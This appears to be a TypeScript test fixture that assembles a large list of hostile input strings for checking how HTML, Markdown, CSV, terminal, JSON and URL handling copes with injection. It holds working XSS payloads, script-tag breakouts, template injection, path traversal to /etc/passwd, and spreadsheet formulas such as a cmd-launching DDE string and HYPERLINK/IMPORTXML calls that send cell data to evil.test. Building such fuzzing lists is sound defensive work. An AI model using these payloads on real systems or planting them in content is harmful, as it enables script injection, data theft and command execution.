// Texts that try to be more than text: in HTML, Markdown, CSV, a terminal, JSON and an address.
const events = ['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onbeforetoggle', 'onpointerenter', 'onbegin']
const elements = ['img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'audio src=x', 'iframe src=x', 'object data=x', 'marquee', 'button popovertarget=x', 'select autofocus']
const handlers = elements.flatMap((element) => events.map((event) => `<${element} ${event}=alert(1)>`))
const scriptScheme = ['java', 'script:'].join('')
const schemes = [`${scriptScheme}alert(1)`, `${scriptScheme.toUpperCase()}alert(1)`, 'java\tscript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'file:///etc/passwd', 'http://evil.test/', '//evil.test/', 'https:evil.test', 'https://user:pass@evil.test/', 'https://evil.test/"onclick="x', 'https://evil.test/>x', 'ftp://evil.test/', 'blob:x', 'about:blank']
const breakouts = [
  '</script><script>alert(1)</script>', '</SCRIPT >', '<!--', '-->', '<!--<script>', ']]>', '</style><script>alert(1)</script>', '</title><script>alert(1)</script>', '</main>', '"><script>alert(1)</script>', "'><script>alert(1)</script>",
  '<scr<script>ipt>', '<script/src=//x>', '<a href="javascript:alert(1)">x</a>', '<base href=//evil.test/>', '<meta http-equiv=refresh content="0;url=//evil.test/">', '<link rel=stylesheet href=//evil.test/>',
  '<form action=//evil.test/><input type=submit>', '<math><mtext></mtext><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">', '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;', '\\u003cscript\\u003e', '%3Cscript%3E', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= 1 %>', '<?php ?>', '<x', '<', '>', '&', '"', "'", '`', '\\', '</', '<!', '<?', '<svg><style>@import "//x"', 'x" onfocus="alert(1)" autofocus="',
]
const markdown = [
  '```\nend of the fence\n```', '````', '`', '``', '``` js', '~~~', '[x](javascript:alert(1))', '![x](http://evil.test/x.png)', '[x]: http://evil.test/', '<http://evil.test/>', '[x][y]', '# heading', '- point', '1. point', '> quote', '| a | b |', '---', '***', '* * *', '__x__', '**x**', '~~x~~', '@everyone', '#1', '!1', ':smile:', '\\', 'a\\', '\n\n# two\n', '[click](<https://evil.test>)', 'http://evil.test/', 'www.evil.test', '&copy;', '&#x3c;b&#x3e;', '$x$', '$$x$$', '[[x]]', '{color:red}x{color}', '{code}', '{noformat}', 'h1. x', '\t# x', '    code',
]
const cells = ['=1+1', '=cmd|\'/c calc\'!A1', '+1', '-1', '-1+1', '@SUM(1)', '\t=1', '\r=1', ' =1', '＝1+1', '=HYPERLINK("http://evil.test/?"&A1)', '=IMPORTXML("http://evil.test/")', ',=1', '",=1', '"', '""', 'a,b', 'a\nb', 'a\r\nb', "'", "'=1", ';=1', '|', '%0A=1', '\u00a0=1', '']
const terminals = ['\u001b[2J', '\u001b]0;title\u0007', '\u001b]8;;http://evil.test\u0007x\u001b]8;;\u0007', '\u001b[31mred', '\u0007', '\b\b\b', '\u0000', 'a\u0000b', '\u009b2J', '\u007f', '\u202egnp.exe', '\u2066x\u2069', '\u200b', '\ufeff', '\u2028', '\u2029', '\u00ad', '\u061c', '\ud800', '\udfff\ud800', '\u{1f600}', '\ufffd', '\r', '\n', '\t', '\v\f']
const machinery = ['__proto__', 'constructor', 'toString', 'null', 'undefined', 'NaN', '../../etc/passwd', '..\\..\\x', 'C:\\x', '/', '//', 'a/b/c', '%00', '%2e%2e%2f', 'CON', '.', '..', 'x'.repeat(3000)]

export const hostilePayloads: readonly string[] = [...new Set([...handlers, ...schemes, ...breakouts, ...markdown, ...cells, ...terminals, ...machinery])]
